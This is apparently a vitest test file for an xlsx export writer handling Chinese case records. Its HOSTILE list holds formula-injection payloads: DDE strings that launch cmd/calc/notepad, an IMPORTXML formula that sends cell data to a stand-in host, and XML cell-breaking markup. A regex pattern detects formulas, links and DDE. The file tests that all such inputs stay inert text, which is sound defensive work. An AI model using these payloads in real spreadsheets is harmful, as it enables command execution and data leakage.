/** Workbooks as they are on the disk: read back by exceljs, which wrote none of them, and by hand from the XML. What was stored is what is
 *  read; nothing that a program could calculate gets in. */
import { createHash } from 'node:crypto';
import ExcelJS from 'exceljs';
import { describe, expect, test } from 'vitest';
import { cellText, columnLetters, STYLES } from './cells.ts';
import { rawRows, unzip } from './raw-workbook.ts';
import { type Book, BOOK_ROWS_MAX, writeWorkbook } from './workbook.ts';

/** SECURITY 17 and what its relatives look like in a name, a village, a reason. */
const HOSTILE = [
  '=1+1',
  '+1',
  '-1',
  '@SUM(A1:A9)',
  "=cmd|'/C calc'!A0",
  '=HYPERLINK("http://x.example","点这里")',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(A1)',
  '"=1+1',
  "'=1+1",
  ' =1+1',
  'DDE("cmd";"/C calc";"x")',
  "+cmd|' /C notepad'!'A1'",
  '=IMPORTXML(CONCAT("http://x.example/",A1),"//a")',
  '_x0041_',
  '_x000D_=1',
  '<f>1+1</f>',
  ']]>&amp;&<b>',
  '</t></is></c><c r="Z9"><f>1+1</f></c>',
  '娜仁·其其格',
  '𠮷野家 🐎',
  '  两头有空格  ',
  '一行\n两行\r\n三行',
];
const LONG_NUMBERS = [
  '159999196804170427',
  '15999919680417042X',
  '159999680417042',
  '6217999900001234417',
  '007',
];

function book(given: Partial<Book> & { rows?: readonly (readonly (string | number | null)[])[] } = {}): Book {
  const { rows = [], ...more } = given;
  return {
    title: '案件',
    notes: ['条件：全部', '查干淖尔苏木民政办 · 娜仁', '导出编号 21-20261102-9F3A0C'],
    columns: [{ title: '姓名', kind: 'text' }],
    rowCount: rows.length,
    row: (index) => rows[index] ?? [],
    madeBy: '查干淖尔苏木民政办 娜仁',
    madeAt: '2026-11-02T02:00:00.000Z',
    serialNumber: '21-20261102-9F3A0C',
    serialLabel: '导出编号',
    ...more,
  };
}

async function readByExcelJs(bytes: Buffer): Promise<ExcelJS.Workbook> {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(bytes as never);
  return workbook;
}

const FIRST_ROW = 6;

/** The text of a cell. Of inline strings exceljs leaves `_x000D_` as it stands, which Excel reads (and writes) as a carriage return. */
function textOf(value: ExcelJS.CellValue): unknown {
  if (typeof value !== 'string') return value;
  return value.replace(/_x([0-9A-F]{4})_/g, (_, code: string) =>
    String.fromCharCode(Number.parseInt(code, 16)),
  );
}

describe('XC1 a text is a text', () => {
  const rows = [...HOSTILE, ...LONG_NUMBERS].map((text) => [text]);

  test('whatever it begins with: by hand, every cell an inline string of the same text', async () => {
    const cells = rawRows(await writeWorkbook(book({ rows }))).slice(FIRST_ROW - 1);
    expect(cells.map(([cell]) => cell?.type)).toEqual(rows.map(() => 'inlineStr'));
    expect(cells.map(([cell]) => cell?.value)).toEqual(rows.map(([text]) => text));
  });

  test('read by exceljs: the same text, and no formula anywhere', async () => {
    const workbook = await readByExcelJs(await writeWorkbook(book({ rows })));
    const sheet = workbook.worksheets[0];
    const read = rows.map((_, at) => sheet?.getCell(FIRST_ROW + at, 1));
    expect(read.map((cell) => textOf(cell?.value ?? null))).toEqual(rows.map(([text]) => text));
    expect(read.map((cell) => cell?.formula).filter(Boolean)).toEqual([]);
    expect(read.map((cell) => cell?.numFmt)).toEqual(rows.map(() => '@'));
  });

  test('no part of the file has a place for a formula, a link, a macro or another file', async () => {
    const parts = unzip(await writeWorkbook(book({ rows })));
    expect([...parts.keys()].sort()).toEqual([
      '[Content_Types].xml',
      '_rels/.rels',
      'docProps/core.xml',
      'docProps/custom.xml',
      'xl/_rels/workbook.xml.rels',
      'xl/styles.xml',
      'xl/workbook.xml',
      'xl/worksheets/sheet1.xml',
    ]);
    for (const [name, text] of parts)
      expect([
        name,
        /<f[ >/]|<hyperlink|<externalReference|TargetMode|<oleObject|ddeLink/.test(text),
      ]).toEqual([name, false]);
  });

  test('XC2 what looks like a formula carries the quote mark, and nothing else does', async () => {
    const bytes = await writeWorkbook(book({ rows }));
    const looks = [
      ...(unzip(bytes).get('xl/styles.xml') ?? '').split('<cellXfs')[1]!.matchAll(/<xf [^>]*>/g),
    ];
    const quoted = looks.flatMap(([xf], at) => (xf.includes('quotePrefix="1"') ? [at] : []));
    expect(quoted).toEqual([STYLES.indexOf('quoted')]);
    const cells = rawRows(bytes).slice(FIRST_ROW - 1);
    const marked = cells.filter(([cell]) => cell?.style === quoted[0]).map(([cell]) => cell?.value);
    expect(marked).toEqual([
      ...HOSTILE.slice(0, 16),
      "+cmd|' /C notepad'!'A1'",
      '=IMPORTXML(CONCAT("http://x.example/",A1),"//a")',
    ]);
  });

  test('what XML cannot hold is left out, and a cell is no longer than Excel allows', async () => {
    expect(cellText('娜\u0000仁\u0007\u001F\uFFFE\uD800花')).toBe('娜仁花');
    const long = 'あ'.repeat(32_766) + '𠮷𠮷';
    expect(cellText(long)).toBe('あ'.repeat(32_766));
    const bytes = await writeWorkbook(book({ rows: [['a\u0001b'], ['x'.repeat(40_000)]] }));
    const [first, second] = rawRows(bytes).slice(FIRST_ROW - 1);
    expect(first?.[0]?.value).toBe('ab');
    expect(second?.[0]?.value).toHaveLength(32_767);
    expect((await readByExcelJs(bytes)).worksheets[0]?.getCell('A6').text).toBe('ab');
  });
});

describe('XC4 dates, months, money, counts', () => {
  const columns = [
    { title: '日期', kind: 'date' },
    { title: '月份', kind: 'month' },
    { title: '元', kind: 'money' },
    { title: '行', kind: 'count' },
    { title: '时刻', kind: 'instant' },
  ] as const;

  test('are what the sheet calculates with, except the months', async () => {
    const rows = [['2026-11-02', '2026-07', 21_050, 3, '2026-11-02T02:30:00.000Z']];
    const sheet = (await readByExcelJs(await writeWorkbook(book({ columns, rows })))).worksheets[0];
    const [date, month, money, count, instant] = [1, 2, 3, 4, 5].map((at) => sheet?.getCell(FIRST_ROW, at));
    expect(date?.value).toEqual(new Date('2026-11-02T00:00:00Z'));
    expect(date?.numFmt).toBe('yyyy-mm-dd');
    expect([textOf(month?.value ?? null), month?.numFmt]).toEqual(['2026-07', '@']);
    expect([money?.value, money?.numFmt]).toEqual([210.5, '0.00']);
    expect([count?.value, count?.numFmt]).toEqual([3, '0']);
    // Half past ten in Asia/Shanghai, as the sheet shows it.
    expect((instant?.value as Date | undefined)?.toISOString().slice(0, 16)).toBe('2026-11-02T10:30');
  });

  test('a day that the calendar of the sheet has wrong, or that is none, stays a text', async () => {
    const rows = [['1900-01-31'], ['1899-05-01'], ['去年'], ['2026-02-30'], ['1900-03-01']];
    const cells = rawRows(await writeWorkbook(book({ columns: columns.slice(0, 1), rows }))).slice(
      FIRST_ROW - 1,
    );
    expect(cells.map(([cell]) => [cell?.type, cell?.value])).toEqual([
      ['inlineStr', '1900-01-31'],
      ['inlineStr', '1899-05-01'],
      ['inlineStr', '去年'],
      ['inlineStr', '2026-02-30'],
      [null, '61'],
    ]);
  });

  test('nothing is an empty cell', async () => {
    const rows = [
      [null, null, null, null, null],
      ['', '', 0, 0, ''],
    ];
    const cells = rawRows(await writeWorkbook(book({ columns, rows }))).slice(FIRST_ROW - 1);
    expect(cells.map((row) => row.map(({ place, value }) => [place, value]))).toEqual([
      [],
      [
        ['C7', '0'],
        ['D7', '0'],
      ],
    ]);
  });
});

describe('WB2 the head', () => {
  test('says what, what narrowed it, who and where, when, the number; the properties too', async () => {
    const workbook = await readByExcelJs(await writeWorkbook(book({ rows: [['娜仁']] })));
    const sheet = workbook.worksheets[0];
    expect(sheet?.name).toBe('案件');
    expect([1, 2, 3, 4, 5].map((row) => textOf(sheet?.getCell(row, 1).value ?? null))).toEqual([
      '案件',
      '条件：全部',
      '查干淖尔苏木民政办 · 娜仁',
      '导出编号 21-20261102-9F3A0C',
      '姓名',
    ]);
    expect(sheet?.views[0]).toMatchObject({ state: 'frozen', ySplit: 5 });
    expect(sheet?.pageSetup).toMatchObject({
      printTitlesRow: '1:5',
      orientation: 'landscape',
      fitToHeight: 0,
    });
    expect(sheet?.headerFooter.oddFooter).toContain('21-20261102-9F3A0C');
    expect(workbook).toMatchObject({
      title: '案件',
      creator: '查干淖尔苏木民政办 娜仁',
      keywords: '21-20261102-9F3A0C',
      created: new Date('2026-11-02T02:00:00Z'),
    });
    const custom = unzip(await writeWorkbook(book())).get('docProps/custom.xml');
    expect(custom).toContain('name="导出编号"><vt:lpwstr>21-20261102-9F3A0C</vt:lpwstr>');
  });

  test('columns are as wide as what stands in them, within bounds', async () => {
    const columns = ['甲', '乙', '丙'].map((title) => ({ title, kind: 'text' as const }));
    const rows = [['a', '159999196804170427', '一'.repeat(90)]];
    const sheet = unzip(await writeWorkbook(book({ columns, rows }))).get('xl/worksheets/sheet1.xml');
    const widths = [...(sheet ?? '').matchAll(/<col [^>]*width="(\d+)"/g)].map(([, width]) => Number(width));
    expect(widths).toEqual([8, 20, 46]);
  });

  test('a title that no sheet may bear is bent', async () => {
    const workbook = await readByExcelJs(await writeWorkbook(book({ title: "a/b\\c?*[x]:'&<".repeat(4) })));
    expect(workbook.worksheets[0]?.name).toHaveLength(31);
  });
});

test('WB3 the same list makes the same bytes', async () => {
  const rows = HOSTILE.map((text) => [text]);
  const [one, two] = [await writeWorkbook(book({ rows })), await writeWorkbook(book({ rows }))];
  expect(createHash('sha256').update(one).digest('hex')).toBe(createHash('sha256').update(two).digest('hex'));
});

test('more rows than a sheet holds are refused before any is written', async () => {
  await expect(writeWorkbook(book({ rowCount: BOOK_ROWS_MAX + 1 }))).rejects.toBeInstanceOf(RangeError);
});

test.each([
  [0, 'A'],
  [25, 'Z'],
  [26, 'AA'],
  [51, 'AZ'],
  [701, 'ZZ'],
  [702, 'AAA'],
])('column %i is %s', (index, letters) => expect(columnLetters(index)).toBe(letters));
